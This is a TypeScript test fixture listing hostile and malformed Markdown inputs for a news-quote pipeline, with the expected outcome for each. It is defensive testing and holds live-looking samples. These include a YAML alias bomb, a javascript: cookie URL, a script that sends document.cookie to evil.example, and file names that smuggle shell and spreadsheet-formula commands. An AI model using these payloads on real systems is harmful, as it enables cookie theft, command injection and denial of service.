import { expect } from "vitest";
import { sha256 } from "@parley/model";
import type { TableRows } from "@parley/validate";
import { FRONT, TEST_SPEAKER, newsBody, sourceFile } from "../_helpers.ts";

// The bad-input corpus: hostile and broken source files, each with the outcome the pipeline must give.
// Big files are generated here, never committed.

/** What a finished build gives a check: the dataset read back (CSV) and the text of each article. */
export interface Built {
  tables: TableRows;
  texts: Map<string, string>;
}

export type Expected =
  | { outcome: "error"; file: string; line: number | null; message: RegExp }
  | { outcome: "ok"; handling: string; check?: (built: Built) => void };

export interface HostileCase {
  name: string;
  files: Record<string, string | Uint8Array>;
  expected: Expected;
  /**
   * What the case attacks beyond the parser (memory, time, the stack): it runs the real command in a child process
   * with a memory cap and a time limit. The other cases run the same command in process.
   */
  attacks?: string;
}

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const concat = (...parts: Uint8Array[]): Uint8Array => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

/** The well-formed article beside every case: its dataset is the "previous" one a failed build must leave alone. */
export const COMPANION = sourceFile(FRONT, newsBody("The ministers will report to their governments next week."));
const GOOD = sourceFile(FRONT, newsBody());
const frontWith = (fields: Record<string, string>, body = newsBody()): string =>
  sourceFile({ ...FRONT, ...fields }, body);
const rowsOf = (built: Built, table: keyof TableRows, source: string) =>
  built.tables[table].filter((r) => (r.source_ids as string[] | undefined)?.includes(source) ?? r.source_id === source);

/** YAML whose aliases expand to 9^9 strings if followed ("billion laughs"). */
function aliasBomb(): string {
  const lines = ['lol0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'];
  for (let i = 1; i < 9; i++)
    lines.push(
      `lol${i}: &a${i} [${Array(9)
        .fill(`*a${i - 1}`)
        .join(", ")}]`,
    );
  return ["---", ...lines, "title: Laughs", "publisher: Example Wire", "published: 2024", "---", newsBody()].join("\n");
}

function tenThousandQuotes(): string {
  const paragraphs = Array.from(
    { length: 10_000 },
    (_, i) => `“We have agreed on point number ${i + 1} of the joint statement,” ${TEST_SPEAKER.name} said.`,
  );
  return frontWith({ title: "Ten thousand statements" }, paragraphs.join("\n"));
}

const SAME_TEXT = frontWith({ title: "Copied twice" }, newsBody("The ministers will meet again in the spring."));

export const HOSTILE_CASES: HostileCase[] = [
  {
    name: "no front matter",
    files: { "bare.md": newsBody() },
    expected: { outcome: "error", file: "bare.md", line: 1, message: /no front matter/ },
  },
  {
    name: "an empty file",
    files: { "empty.md": "" },
    expected: { outcome: "error", file: "empty.md", line: 1, message: /no front matter/ },
  },
  {
    name: "front matter never closed",
    files: { "open.md": `---\ntitle: Open\npublisher: Example Wire\npublished: 2024\n${newsBody()}` },
    expected: { outcome: "error", file: "open.md", line: 1, message: /front matter is not closed/ },
  },
  {
    name: "broken YAML (unclosed quotation in a value)",
    files: { "yaml.md": `---\ntitle: Fine\npublisher: "Example Wire\npublished: 2024\n---\n${newsBody()}` },
    expected: { outcome: "error", file: "yaml.md", line: 3, message: /YAML cannot be read/ },
  },
  {
    name: "broken YAML (a colon in an unquoted value)",
    files: {
      "colon.md": `---\ntitle: Talks: day two: the results\npublisher: Example Wire\npublished: 2024\n---\n${newsBody()}`,
    },
    expected: { outcome: "error", file: "colon.md", line: 2, message: /YAML cannot be read/ },
  },
  {
    name: "YAML alias bomb",
    attacks: "memory: 9^9 strings if the aliases are followed",
    files: { "laughs.md": aliasBomb() },
    expected: { outcome: "error", file: "laughs.md", line: 2, message: /YAML cannot be read: .*alias/i },
  },
  {
    name: "YAML nested 20,000 deep",
    attacks: "the stack",
    files: {
      "deep.md": `---\ntitle: ${"[".repeat(20_000)}${"]".repeat(20_000)}\npublisher: Example Wire\npublished: 2024\n---\n${newsBody()}`,
    },
    expected: { outcome: "error", file: "deep.md", line: 2, message: /YAML cannot be read/ },
  },
  {
    name: "wrong field type (title is a list)",
    files: {
      "types.md": `---\ntitle: [Talks, in, Madrid]\npublisher: Example Wire\npublished: 2024\n---\n${newsBody()}`,
    },
    expected: { outcome: "error", file: "types.md", line: 2, message: /'title'/ },
  },
  {
    name: "wrong field type (published is a boolean)",
    files: { "bool.md": `---\ntitle: Talks\npublisher: Example Wire\npublished: true\n---\n${newsBody()}` },
    expected: { outcome: "error", file: "bool.md", line: 4, message: /'published'/ },
  },
  {
    name: "a misspelt field",
    files: {
      "typo.md": `---\ntitle: Talks\npublisher: Example Wire\npublished: 2024\nauthr: A. Writer\n---\n${newsBody()}`,
    },
    expected: { outcome: "error", file: "typo.md", line: 5, message: /'authr': not a known field/ },
  },
  {
    name: "date 2025-13-45",
    files: { "month13.md": frontWith({ published: "2025-13-45" }) },
    expected: { outcome: "error", file: "month13.md", line: 4, message: /'published': a date as YYYY/ },
  },
  {
    name: "date 2025-02-30 (no such day)",
    files: { "feb30.md": frontWith({ published: "2025-02-30" }) },
    expected: { outcome: "error", file: "feb30.md", line: 4, message: /a day that exists/ },
  },
  {
    name: "a javascript: URL",
    files: { "jsurl.md": frontWith({ url: "javascript:alert(document.cookie)" }) },
    expected: {
      outcome: "error",
      file: "jsurl.md",
      line: 5,
      message: /'url' is "javascript:alert\(document.cookie\)", not a web address/,
    },
  },
  {
    name: "half a surrogate pair by YAML escape",
    files: { "surrogate.md": frontWith({ title: '"Talks \\uD800 ended"' }) },
    expected: { outcome: "error", file: "surrogate.md", line: 2, message: /'title' holds the character U\+D800/ },
  },
  {
    name: "a terminal escape by YAML escape",
    files: { "escape.md": frontWith({ publisher: '"Example \\u001b[31mWire"' }) },
    expected: { outcome: "error", file: "escape.md", line: 3, message: /'publisher' holds the character U\+001B/ },
  },
  {
    name: "an empty body",
    files: { "nobody.md": frontWith({}, "") },
    expected: { outcome: "error", file: "nobody.md", line: 6, message: /article body is empty/ },
  },
  {
    name: "a body of blank lines",
    files: { "blank.md": frontWith({}, "\n   \n\t\n") },
    expected: { outcome: "error", file: "blank.md", line: 6, message: /article body is empty/ },
  },
  {
    name: "a body of page furniture only",
    files: { "furniture.md": frontWith({}, "Share\n5 min read\nAdvertisement") },
    expected: { outcome: "error", file: "furniture.md", line: 6, message: /only publisher boilerplate/ },
  },
  {
    name: "a body of only quotation marks",
    files: { "marks.md": frontWith({ title: "Marks" }, `"""" “”“” ‘’ «» „“\n""\n“”`) },
    expected: {
      outcome: "ok",
      handling: "read; no quote from it",
      check: (b) => expect(rowsOf(b, "quotes", "marks")).toEqual([]),
    },
  },
  {
    name: "unterminated quotation marks",
    files: {
      "unterminated.md": frontWith(
        { title: "Unterminated" },
        `“We will not accept any foreign military presence, ${TEST_SPEAKER.name} said.\nThe talks went on late into the night.\n“Dialogue is the only way forward for the region,” she said.`,
      ),
    },
    expected: {
      outcome: "ok",
      handling: "read; no quote runs from the unclosed mark into the next paragraph",
      check: (b) => {
        for (const q of rowsOf(b, "quotes", "unterminated")) expect(String(q.text)).not.toMatch(/\n/);
      },
    },
  },
  {
    name: "nested quotation marks",
    files: {
      "nested.md": frontWith(
        { title: "Nested" },
        `“They told us ‘the door is open’ and we believe them, ‘at least for now’,” ${TEST_SPEAKER.name} said.\n"He called it "a mistake" twice," she added.`,
      ),
    },
    expected: { outcome: "ok", handling: "read; every quote and offset valid" },
  },
  {
    name: "a 5 MB article (refused by size, never read)",
    attacks: "memory: refused before it is read",
    files: { "huge.md": frontWith({ title: "Huge" }, `${"The ministers met again. ".repeat(200_000)}`) },
    expected: {
      outcome: "error",
      file: "huge.md",
      line: null,
      message: /the file has 5000066 bytes, more than one article may have/,
    },
  },
  {
    name: "a 1.5 MB article (read, refused by length)",
    attacks: "memory and time: read, then refused",
    files: { "long.md": frontWith({ title: "Long" }, `${"The ministers met again. ".repeat(60_000)}`) },
    expected: {
      outcome: "error",
      file: "long.md",
      line: 6,
      message: /body has 1500000 characters, more than the 1000000/,
    },
  },
  {
    name: "a NUL byte",
    files: { "nul.md": concat(utf8(`${GOOD}\nA line before\n`), new Uint8Array([0x41, 0x00, 0x42])) },
    expected: { outcome: "error", file: "nul.md", line: 10, message: /NUL byte/ },
  },
  {
    name: "invalid UTF-8 (Latin-1 é)",
    files: { "latin1.md": concat(utf8(`${GOOD}\nCaf`), new Uint8Array([0xe9]), utf8(" talks.\n")) },
    expected: { outcome: "error", file: "latin1.md", line: 9, message: /not valid UTF-8/ },
  },
  {
    name: "a UTF-8 byte order mark",
    files: { "bom.md": concat(new Uint8Array([0xef, 0xbb, 0xbf]), utf8(frontWith({ title: "With a BOM" }))) },
    expected: {
      outcome: "ok",
      handling: "BOM dropped: same text and sha256 as without it",
      check: (b) => expect(rowsOf(b, "sources", "bom")[0]?.sha256).toBe(sha256(newsBody())),
    },
  },
  {
    name: "CRLF line endings",
    files: { "crlf.md": frontWith({ title: "Windows" }).replace(/\n/g, "\r\n") },
    expected: {
      outcome: "ok",
      handling: "read as \\n: same text and sha256 as the \\n file",
      check: (b) => {
        expect(rowsOf(b, "sources", "crlf")[0]?.sha256).toBe(sha256(newsBody()));
        expect(b.texts.get("crlf")).not.toMatch(/\r/);
      },
    },
  },
  {
    name: "lone CR line endings",
    files: { "cr.md": frontWith({ title: "Classic Mac" }).replace(/\n/g, "\r") },
    expected: {
      outcome: "ok",
      handling: "read as \\n: same text and sha256 as the \\n file",
      check: (b) => expect(rowsOf(b, "sources", "cr")[0]?.sha256).toBe(sha256(newsBody())),
    },
  },
  {
    name: "an article with 10,000 quotes",
    attacks: "memory and time",
    files: { "many.md": tenThousandQuotes() },
    expected: {
      outcome: "ok",
      handling: "read in seconds; statements that differ in a number stay apart",
      check: (b) => {
        const quotes = rowsOf(b, "quotes", "many");
        expect(quotes.length).toBeGreaterThan(9_000);
        expect(new Set(quotes.map((q) => q.text)).size).toBe(quotes.length);
      },
    },
  },
  {
    name: "a quote holding 900,000 exclamation marks",
    attacks: "time: text folding was quadratic on punctuation runs",
    files: {
      "shout.md": frontWith(
        { title: "Shouting" },
        `“We will act ${"!".repeat(900_000)} now and always,” ${TEST_SPEAKER.name} said.\nThe ministers met again on Friday.`,
      ),
    },
    expected: { outcome: "ok", handling: "read in linear time (text folding was quadratic on punctuation runs)" },
  },
  {
    name: "HTML with <script> in the text",
    files: {
      "script.md": frontWith(
        { title: '"<script>alert(1)</script> Talks"' },
        `<p>Officials met on Friday.</p><script>fetch("https://evil.example/?c="+document.cookie)</script>\n“We will not allow <script>alert(1)</script> in our statements,” ${TEST_SPEAKER.name} said.`,
      ),
    },
    expected: {
      outcome: "ok",
      handling: "kept as literal text, never interpreted",
      check: (b) => {
        expect(rowsOf(b, "sources", "script")[0]?.title).toBe("<script>alert(1)</script> Talks");
        expect(b.texts.get("script")).toContain("<script>fetch(");
      },
    },
  },
  {
    name: "a file name with spaces",
    files: { "talks in madrid.md": frontWith({ title: "Spaces" }) },
    expected: {
      outcome: "ok",
      handling: "source ID keeps the spaces",
      check: (b) => expect(rowsOf(b, "sources", "talks in madrid")).toHaveLength(1),
    },
  },
  {
    name: "a file name in decomposed unicode",
    files: { ["переговоры-cafe\u0301.md"]: frontWith({ title: "Unicode" }) },
    expected: {
      outcome: "ok",
      handling: "source ID in NFC, as on every file system",
      check: (b) => expect(rowsOf(b, "sources", "переговоры-caf\u00e9")).toHaveLength(1),
    },
  },
  {
    name: "a file name with shell characters",
    files: { "$(touch pwned);x.md": frontWith({ title: "Shell" }) },
    expected: {
      outcome: "error",
      file: "$(touch pwned);x.md",
      line: null,
      message: /file name cannot be a source ID: it contains "\$" "\(" "\)" ";"/,
    },
  },
  {
    name: "a file name that is a spreadsheet formula",
    files: { "=cmd|' calc'!A0.md": frontWith({ title: "Formula" }) },
    expected: { outcome: "error", file: "=cmd|' calc'!A0.md", line: null, message: /file name cannot be a source ID/ },
  },
  {
    name: "a file name starting with a dash",
    files: { "-rf.md": frontWith({ title: "Dash" }) },
    expected: { outcome: "error", file: "-rf.md", line: null, message: /must start with a letter or digit/ },
  },
  {
    name: "two files with the same text",
    files: { "copy-a.md": SAME_TEXT, "copy-b.md": SAME_TEXT },
    expected: { outcome: "error", file: "copy-b.md", line: null, message: /same article text as .*copy-a\.md/ },
  },
  {
    name: "two files giving one source ID",
    files: {
      "twin.md": frontWith({ title: "One" }, newsBody("First.")),
      "twin.markdown": frontWith({ title: "Two" }, newsBody("Second.")),
    },
    expected: { outcome: "error", file: "twin.md", line: null, message: /same source ID 'twin' as .*twin\.markdown/ },
  },
];
